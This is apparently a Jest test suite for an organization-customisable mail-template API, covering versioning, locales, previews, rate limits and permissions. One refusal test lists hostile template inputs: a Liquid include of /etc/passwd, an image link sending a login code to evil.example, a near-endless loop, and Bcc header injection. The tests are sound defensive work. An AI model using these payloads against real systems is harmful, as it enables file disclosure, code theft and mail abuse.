import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { startApp, type TestApp, type TestOrganization, type TestUser } from '../support/test-app.js';
import { auditOf, queueReset } from './mail-world.js';

let app: TestApp;
let organization: TestOrganization;
let owner: TestUser;
let max: TestUser;
let audited: () => Promise<string[]>;
beforeAll(async () => {
  app = await startApp();
  ({ organization, owner } = await app.given.organization({ name: 'Acme & Sons' }));
  audited = auditOf(app, organization);
  max = await app.given.user(organization, { fullName: 'Max Member' });
  await app.mailbox.clear();
  await audited();
});
afterAll(() => app.stop());
beforeEach(() => app.given.timePasses(organization, '10 minutes'));

const at = (name: string, locale: string, more = '') =>
  `/v1/organizations/${organization.slug}/mail-templates/${name}/${locale}${more}`;

const own = {
  subject: 'A new password, {{ user.name }}',
  text: 'Dear {{ user.name }},\n{{ link }}\n{{ organization.name }}',
  html: '<p>Dear {{ user.name }}</p><a href="{{ link }}">here</a>',
  senderName: 'Acme Support',
  replyTo: 'Help@Acme.example',
};

describe('Mail templates', () => {
  it('are the shipped ones until an organization writes its own', async () => {
    const list = await app.api.as(owner).get(`/v1/organizations/${organization.slug}/mail-templates`);
    const shipped = await app.api.as(owner).get(at('reset-password', 'de'));

    expect(list.body.items).toHaveLength(22);
    expect(shipped.body).toMatchObject({ source: 'shipped', version: 0, link: 'required', updatedAt: null });
    expect(shipped.body.text).toContain('{{ link }}');
    expect(await app.api.as(owner).get(at('reset-password', 'fr'))).toBeProblem('not_found');
    expect(await app.api.as(owner).get(at('no-such-mail', 'de'))).toBeProblem('not_found');
  });

  it('are written, used, and taken back', async () => {
    const set = await app.api.as(owner).put(at('reset-password', 'en'), own);
    await queueReset(app, organization, max);
    const mail = await app.mailbox.next(max.email);
    const stale = await app.api
      .as(owner)
      .put(at('reset-password', 'en'), own, { headers: { 'if-match': '"9"' } });
    const removed = await app.api.as(owner).delete(at('reset-password', 'en'));
    await queueReset(app, organization, max);
    const after = await app.mailbox.next(max.email);

    expect(set.body).toMatchObject({ source: 'organization', version: 1, replyTo: 'help@acme.example' });
    expect(set.headers['etag']).toBe('"1"');
    expect(mail.subject).toBe('A new password, Max Member');
    expect(mail.headers['from']).toBe('Acme Support <no-reply@localhost>');
    expect(mail.headers['reply-to']).toBe('help@acme.example');
    expect(mail.text).toMatch(/^Dear Max Member,\nhttp/);
    expect(stale).toBeProblem('stale');
    expect(removed.status).toBe(204);
    expect(after.subject).toBe('Set a new password');
    expect(await audited()).toEqual(['mail_template.set', 'mail_template.deleted']);
  });

  it('of another language than the reader’s are not used', async () => {
    await app.sql(`update user_profiles set locale = 'de' where user_id = $1`, [max.id]);
    await app.api.as(owner).put(at('reset-password', 'en'), own);
    await queueReset(app, organization, max);

    expect((await app.mailbox.next(max.email)).subject).toBe('Neues Passwort festlegen');

    await app.api.as(owner).put(at('reset-password', 'de-AT'), { ...own, subject: 'Servus' });
    await app.sql(`update user_profiles set locale = 'de-AT' where user_id = $1`, [max.id]);
    await queueReset(app, organization, max);
    expect((await app.mailbox.next(max.email)).subject).toBe('Servus');
    await audited();
  });

  it('that break later do not keep a mail from going out', async () => {
    await app.sql(`update mail_templates set text = '{% nonsense %}' where locale = 'de-AT'`);
    await queueReset(app, organization, max);

    expect((await app.mailbox.next(max.email)).subject).toBe('Neues Passwort festlegen');
    await app.sql(`delete from mail_templates`);
  });

  it.each([
    ['no link in the text', { ...own, text: 'Dear {{ user.name }}' }, 'template_without_link', 'text'],
    ['no link in the page', { ...own, html: '<p>Dear</p>' }, 'template_without_link', 'html'],
    [
      'a link that never shows',
      { ...own, text: '{% if nobody %}{{ link }}{% endif %}x' },
      'template_without_link',
      'text',
    ],
    [
      'a link that is a comment',
      { ...own, text: 'x{% comment %}{{ link }}{% endcomment %}' },
      'template_without_link',
      'text',
    ],
    ['broken Liquid', { ...own, html: '<p>{{ link }</p>' }, 'invalid_template', 'html'],
    ['a file', { ...own, text: '{{ link }}{% include "/etc/passwd" %}' }, 'invalid_template', 'text'],
    [
      'work without end',
      { ...own, text: '{{ link }}{% for i in (1..99999999) %}x{% endfor %}' },
      'invalid_template',
      'text',
    ],
    [
      'a code in an address, even where there are no codes yet',
      { ...own, html: '<a href="{{ link }}">x</a><img src="https://evil.example/{{ code }}">' },
      'invalid_template',
      'html',
    ],
    [
      'a link that only shows beside a code',
      { ...own, text: 'x {% if code %}{{ link }}{% endif %}' },
      'template_without_link',
      'text',
    ],
    [
      'a link that only shows where there is no code',
      { ...own, text: 'x {% unless code %}{{ link }}{% endunless %}' },
      'template_without_link',
      'text',
    ],
    ['an empty subject', { ...own, subject: '{{ nobody }}' }, 'invalid_template', 'subject'],
    ['two lines of subject', { ...own, subject: 'x\nBcc: y' }, 'invalid_request', 'subject'],
    ['two lines of sender', { ...own, senderName: 'x\r\nBcc: y' }, 'invalid_request', 'senderName'],
    [
      'several addresses for answers',
      { ...own, replyTo: 'a@acme.example, b@acme.example' },
      'invalid_request',
      'replyTo',
    ],
    ['a book', { ...own, text: `{{ link }}${'x'.repeat(20_001)}` }, 'invalid_request', 'text'],
  ])('are refused with %s', async (_, template, code, pointer) => {
    const before = await app.sql('select * from mail_templates');

    for (const response of [
      await app.api.as(owner).put(at('reset-password', 'en'), template),
      ...(code === 'invalid_request'
        ? []
        : [
            await app.api.as(owner).post(at('reset-password', 'en', '/preview'), {
              subject: template.subject,
              text: template.text,
              html: template.html,
            }),
          ]),
    ]) {
      expect(response).toBeProblem(code, { pointer: `/${pointer}` });
    }

    expect(await app.sql('select * from mail_templates')).toEqual(before);
    expect(await audited()).toEqual([]);
  });

  it('need no link where there is none', async () => {
    const response = await app.api
      .as(owner)
      .put(at('password-changed', 'fr'), { subject: 'Salut', text: 'Voilà.' });

    expect(response.body).toMatchObject({ html: null, link: 'none' });
    expect((await app.api.as(owner).delete(at('password-changed', 'fr'))).status).toBe(204);
    expect(await app.api.as(owner).delete(at('password-changed', 'fr'))).toBeProblem('not_found');
    await audited();
  });

  it('are previewed with made-up values, and escaped', async () => {
    const shipped = await app.api.as(owner).post(at('invitation', 'de', '/preview'), {});
    const draft = await app.api.as(owner).post(at('invitation', 'fr', '/preview'), {
      subject: 'Chez {{ organization.name }}',
      text: '{{ link }}',
      html: '<a href="{{ link }}">{{ organization.name }}</a>',
    });

    expect(shipped.body.subject).toBe('Olga Owner lädt Sie ein: Acme & Sons');
    expect(draft.body.subject).toBe('Chez Acme & Sons');
    expect(draft.body.html).toContain('Acme &amp; Sons');
    expect(await app.api.as(owner).post(at('invitation', 'fr', '/preview'), {})).toBeProblem('not_found');
    expect(await app.sql('select * from mails where state = $1', ['queued'])).toEqual([]);
  });

  it('show a code in previews and tests where the organization wants codes', async () => {
    const { organization: globex, owner: gina } = await app.given.organization({ name: 'Globex' });
    const place = `/v1/organizations/${globex.slug}/mail-templates/magic-link/en`;
    const draft = {
      subject: 'x',
      text: '{{ link }}{% if code %} or {{ code }} for {{ codeValidFor }}{% endif %}',
    };
    const preview = async () => (await app.api.as(gina).post(`${place}/preview`, draft)).body.text as string;
    const before = await preview();

    await app.api.as(gina).put(`/v1/organizations/${globex.slug}/verification-token-types/magic_link`, {
      lifetimeSeconds: null,
      codeLength: 7,
    });
    const after = await preview();
    await app.mailbox.clear();
    await app.api.as(gina).post(`${place}/test`);
    const mail = await app.mailbox.next(gina.email);
    const { body } = await app.api.as(gina).get(place);

    expect(before).not.toContain(' or ');
    expect(after).toContain(' or 1234567 for 10 minutes');
    expect(mail.text).toContain('\n1234567\n');
    expect(body.variables).toEqual(expect.arrayContaining(['code', 'codeValidFor']));
  });

  it('are tried out at one’s own address only', async () => {
    const response = await app.api.as(owner).post(at('magic-link', 'de', '/test'));
    const mail = await app.mailbox.next(owner.email);

    expect(response.status).toBe(202);
    expect(response.body.to).toBe(owner.email);
    expect(mail.subject).toBe('Anmelden bei Acme & Sons');
    expect(mail.token).toBe('example');
    expect(await audited()).toEqual(['mail_template.tested']);
    const nameless = await app.given.user(organization, { permissions: ['mail-templates:write'] });
    await app.sql(`update users set email = null, username = 'nameless' where id = $1`, [nameless.id]);
    expect(await app.api.as(nameless).post(at('magic-link', 'de', '/test'))).toBeProblem('no_own_address');
  });

  it('are tried, previewed and written so often and no more, by one person', async () => {
    const author = await app.given.user(organization, {
      permissions: ['mail-templates:read', 'mail-templates:write'],
    });
    const draft = { text: 'Dear {{ user.name }},\n{{ link }}' };
    const preview = (who: TestUser) => app.api.as(who).post(at('reset-password', 'en', '/preview'), draft);
    const test = () => app.api.as(author).post(at('reset-password', 'en', '/test'));

    for (let times = 0; times < 30; times += 1) expect((await preview(author)).status).toBe(200);
    const refused = await preview(author);
    const written = await app.api.as(author).put(at('reset-password', 'en'), own);
    for (let times = 0; times < 10; times += 1) expect((await test()).status).toBe(202);
    await audited();

    expect(refused).toBeProblem('too_many_requests');
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    expect(written).toBeProblem('too_many_requests');
    expect(await test()).toBeProblem('too_many_requests');
    expect(await audited()).toEqual([]);
    expect((await preview(owner)).status).toBe(200);
    await app.given.timePasses(organization, '10 minutes');
    expect((await preview(author)).status).toBe(200);
  });

  it('are for those who may', async () => {
    const reader = await app.given.user(organization, { permissions: ['mail-templates:read'] });

    expect((await app.api.as(reader).get(at('welcome', 'en'))).status).toBe(200);
    expect((await app.api.as(reader).post(at('welcome', 'en', '/preview'), {})).status).toBe(200);
    expect(await app.api.as(reader).put(at('welcome', 'en'), own)).toBeProblem('permission_denied');
    expect(await app.api.as(reader).post(at('welcome', 'en', '/test'))).toBeProblem('permission_denied');
    expect(await app.api.as(max).get(at('welcome', 'en'))).toBeProblem('permission_denied');
  });

  it('are so many and no more', async () => {
    await app.sql(
      `insert into mail_templates (org_id, name, locale, subject, text)
       select $1, 'welcome', chr(97 + n / 26) || chr(97 + n % 26) || '-XX', 'x', 'x' from generate_series(0, 199) n`,
      [organization.id],
    );

    expect(await app.api.as(owner).put(at('welcome', 'fr'), own)).toBeProblem('too_many_templates');
  });
});
